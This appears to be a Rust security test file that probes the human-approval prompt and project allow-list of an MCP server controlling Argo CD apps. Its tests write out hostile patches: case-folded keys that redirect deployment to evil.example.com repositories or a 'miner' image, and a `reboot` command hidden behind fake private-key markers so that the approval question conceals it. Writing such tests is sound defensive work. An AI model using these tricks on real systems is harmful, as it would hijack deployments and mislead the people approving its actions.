//! Fourteenth hostile review: the patch-spelling guard, the approval question's text changes
//! and the allow-list before a question.

use serde_json::{Value, json};

use crate::World;
use crate::planting::approval_world;

fn helm_source(values: &str) -> Value {
    json!({"repoURL": "https://charts.example.com", "chart": "guestbook", "targetRevision": "1.0.0",
           "helm": {"values": values}})
}

/// The approval question (or the answer, when none is asked) of `patch` on guestbook, whose
/// source is first set to `source` when given.
async fn patch_question(world: &World, source: Option<Value>, patch: Value) -> String {
    if let Some(source) = source {
        world.standin.state().apps.get_mut("guestbook").unwrap().app["spec"]["source"] = source;
    }
    let call = json!({"name": "patch_argocd_app", "arguments": {
        "app_name": "guestbook", "confirm": true, "patch": patch}});
    let mut body = crate::modern::modern_body(9, "tools/call", call);
    body["params"]["_meta"]["io.modelcontextprotocol/clientCapabilities"] =
        json!({"elicitation": {"form": {}}});
    let asked = world.post(&body, &crate::modern::mirrored(&body)).await.1;
    asked["result"]["inputRequests"]["approval"]["params"]["message"]
        .as_str()
        .map_or_else(|| asked.to_string(), str::to_owned)
}

fn refused(text: &str) -> bool {
    !text.contains("Approve?")
}

/// FINDING S1 (question misstates): `check_patch_spelling` refuses a key only when it folds
/// like another key beside it. `Sources` in a single-source app has no twin, so it passes; the
/// question lists it as a new, unknown field `spec.Sources[0]` and still says the app deploys
/// from `spec.source` (git.example.com), while Go decodes `Sources` as `spec.sources`, which
/// Argo CD deploys instead of `spec.source`: the app deploys from evil.example.com.
#[tokio::test]
async fn review14_finding_folded_key_without_a_twin_sources() {
    let world = approval_world().await;
    let text = patch_question(
        &world,
        None,
        json!({"spec": {"Sources": [{"repoURL": "https://evil.example.com/takeover.git",
                                      "path": ".", "targetRevision": "HEAD"}]}}),
    )
    .await;
    println!("review14 Sources:\n{text}");
    assert!(
        refused(&text) || text.contains("spec.sources"),
        "the question does not name spec.sources:\n{text}"
    );
}

/// FINDING S2: the same one level down: `spec.source.Helm` in an app whose source has no
/// `helm` passes, shown as `spec.source.Helm.values`; Go reads it as `spec.source.helm`.
#[tokio::test]
async fn review14_finding_folded_key_without_a_twin_helm() {
    let world = approval_world().await;
    let text = patch_question(
        &world,
        None,
        json!({"spec": {"source": {"Helm": {"values": "image: evil.example.com/miner"}}}}),
    )
    .await;
    println!("review14 Helm:\n{text}");
    assert!(
        refused(&text) || text.contains("spec.source.helm"),
        "the question does not name spec.source.helm:\n{text}"
    );
}

/// Allow-list without approval: `Sources` written to guestbook (project default) is fine for
/// the list (project unchanged); `Project` in an app lacking `project`? guestbook has it, so
/// the twin check refuses.
#[tokio::test]
async fn review14_allow_list_folded_project_refused() {
    let mut world = World::new().await;
    world.set("allowed_projects", "default");
    for patch in [
        json!({"spec": {"Project": "payments"}}),
        json!({"spec": {"project": null, "pROJECT": "payments"}}),
        json!({"spec": {"pro\u{212a}ject": "payments"}}),
        json!({"SPEC": {"project": "payments"}}),
        json!({"spec": {"project": "default"}, "sPec": {"project": "payments"}}),
    ] {
        let answer = world
            .call(
                "patch_argocd_app",
                json!({"app_name": "guestbook", "confirm": true, "patch": patch}),
            )
            .await
            .to_string();
        println!("review14 allow-list {patch}: {answer}");
        let stored = world.standin.app("guestbook").unwrap();
        let spec = stored.as_object().unwrap();
        assert!(
            spec.keys()
                .all(|k| k == "spec" || !k.eq_ignore_ascii_case("spec")),
            "{patch}: {answer}"
        );
        assert!(
            stored["spec"]
                .as_object()
                .unwrap()
                .keys()
                .all(|k| k == "project" || !k.eq_ignore_ascii_case("project")),
            "{patch}: {answer}"
        );
    }
}

/// FINDING T1 (question hides a change): `changed_line_hidden_by_context` lets a changed line
/// hide when it "reads as key body" (`[A-Za-z0-9+/=]+`). A script command is such a line: under a
/// commented `# -----BEGIN PRIVATE KEY-----` (no END) in `initScript: |`, `true` → `reboot` is
/// put to the person as "text of 4 lines, changed only where credentials are hidden (not
/// shown)".
#[tokio::test]
async fn review14_finding_text_change_key_body_lookalike() {
    let world = approval_world().await;
    let text = patch_question(
        &world,
        Some(helm_source(
            "initScript: |\n  # -----BEGIN PRIVATE KEY-----\n  true\n",
        )),
        json!({"spec": {"source": {"helm": {"values":
            "initScript: |\n  # -----BEGIN PRIVATE KEY-----\n  reboot\n"}}}}),
    )
    .await;
    println!("review14 key-body lookalike:\n{text}");
    assert!(
        refused(&text) || text.contains("reboot"),
        "the question hides the changed command:\n{text}"
    );
}

/// A question for payments with allowed_projects=default, by several spellings of the call.
#[tokio::test]
async fn review14_no_question_for_payments() {
    let world = approval_world().await;
    let mut world = world;
    world.set("allowed_projects", "default");
    let mut asked = Vec::new();
    for (tool, args) in [
        (
            "sync_argocd_app",
            json!({"app_name": "payments", "confirm": true}),
        ),
        (
            "delete_argocd_app",
            json!({"app_name": "payments", "confirm": true, "cascade": true}),
        ),
        (
            "patch_argocd_app",
            json!({"app_name": "payments", "confirm": true, "patch": {"metadata": {"labels": {"a": "b"}}}}),
        ),
        (
            "sync_argocd_app",
            json!({"app_name": "payments", "app_namespace": "argocd", "confirm": true}),
        ),
        (
            "create_argocd_app",
            json!({"name": "payments", "upsert": true, "project": "default", "confirm": true,
            "repo_url": "https://github.com/argoproj/argocd-example-apps", "path": "guestbook",
            "dest_server": "https://kubernetes.default.svc", "dest_namespace": "default"}),
        ),
    ] {
        let call = json!({"name": tool, "arguments": args});
        let mut body = crate::modern::modern_body(9, "tools/call", call);
        body["params"]["_meta"]["io.modelcontextprotocol/clientCapabilities"] =
            json!({"elicitation": {"form": {}}});
        let answer = world.post(&body, &crate::modern::mirrored(&body)).await.1;
        println!("review14 payments {tool} {args}: {answer}");
        if !answer["result"]["inputRequests"].is_null() {
            asked.push(format!("{tool} {args}"));
        }
    }
    assert!(asked.is_empty(), "asked for payments: {asked:?}");
}

async fn text_cases_missing(cases: &[(&str, &str, &str)]) -> Vec<String> {
    let mut missing = Vec::new();
    for (what, before, after) in cases {
        let world = approval_world().await;
        let text = patch_question(
            &world,
            Some(helm_source(before)),
            json!({"spec": {"source": {"helm": {"values": after}}}}),
        )
        .await;
        println!("review14 {what}:\n{text}\n");
        if text.contains("hunter2") {
            missing.push(format!("{what}: shows the password:\n{text}"));
        }
        if !refused(&text) && !text.contains("evil.example.com/miner") && !text.contains("reboot") {
            missing.push(format!("{what}: hides the change:\n{text}"));
        }
    }
    missing
}

/// Held: changes of Helm values beside credential-looking text on the same line or the line
/// above show the new image and not the password.
#[tokio::test]
async fn review14_text_changes_beside_credentials_held() {
    let missing = text_cases_missing(&[
        (
            "comment with password= after the image",
            "image:\n  repository: nginx # password=hunter2\n",
            "image:\n  repository: evil.example.com/miner # password=hunter2\n",
        ),
        (
            "token flag above the image flag in a list",
            "args:\n  - --token\n  - abc\n  - --image=nginx\n",
            "args:\n  - --token\n  - abc\n  - --image=evil.example.com/miner\n",
        ),
    ])
    .await;
    assert!(missing.is_empty(), "{}", missing.join("\n"));
}

/// FINDING T2 (question hides a change): a flow map holding a password on the line of the
/// change. `image: {password: hunter2, repository: nginx}` → `… evil.example.com/miner}`: the
/// question shows no values line at all, only "and 1 credential-like value(s) change, not
/// shown": the image repository change is hidden with the password.
#[tokio::test]
async fn review14_finding_flow_map_password_hides_the_image_change() {
    let missing = text_cases_missing(&[(
        "image after a password: on the same line in a flow map",
        "image: {password: hunter2, repository: nginx}\n",
        "image: {password: hunter2, repository: evil.example.com/miner}\n",
    )])
    .await;
    assert!(missing.is_empty(), "{}", missing.join("\n"));
}

/// FINDING T1b: the same with a commented END below the command.
#[tokio::test]
async fn review14_finding_text_change_between_commented_markers() {
    let missing = text_cases_missing(&[(
        "commented BEGIN and END around a script command",
        "initScript: |\n  # -----BEGIN PRIVATE KEY-----\n  true\n  # -----END PRIVATE KEY-----\n",
        "initScript: |\n  # -----BEGIN PRIVATE KEY-----\n  reboot\n  # -----END PRIVATE KEY-----\n",
    )])
    .await;
    assert!(missing.is_empty(), "{}", missing.join("\n"));
}

/// Held: an app with no `spec.project` (Argo CD's default): `Project` alone (no twin in the
/// app) leaves `/spec/project` empty and is refused; beside `project` it is a twin.
#[tokio::test]
async fn review14_allow_list_project_absent_held() {
    let mut world = World::new().await;
    world.set("allowed_projects", "default");
    world.standin.state().apps.get_mut("guestbook").unwrap().app["spec"]
        .as_object_mut()
        .unwrap()
        .remove("project");
    for patch in [
        json!({"spec": {"Project": "payments"}}),
        json!({"spec": {"Project": "payments", "project": "default"}}),
    ] {
        let answer = world
            .call(
                "patch_argocd_app",
                json!({"app_name": "guestbook", "confirm": true, "patch": patch}),
            )
            .await
            .to_string();
        println!("review14 absent project {patch}: {answer}");
        let stored = world.standin.app("guestbook").unwrap();
        assert!(
            stored["spec"]
                .as_object()
                .unwrap()
                .keys()
                .all(|k| !k.eq_ignore_ascii_case("project") || k == "project")
                && stored["spec"].get("project").is_none(),
            "{patch}: {answer}"
        );
    }
}
